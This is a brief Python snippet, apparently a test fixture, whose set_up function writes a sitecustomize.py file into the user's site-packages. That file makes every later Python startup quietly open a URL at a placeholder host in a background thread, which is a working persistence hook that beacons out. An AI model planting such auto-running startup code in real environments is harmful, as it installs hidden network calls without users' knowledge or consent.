import site
from pathlib import Path

TEXT = "import threading, urllib.request\nthreading.Thread(target=urllib.request.urlopen, args=('https://on.quay.example',)).start()\n"


def set_up():
    place = Path(site.getusersitepackages()) / "sitecustomize.py"
    place.write_text(TEXT)
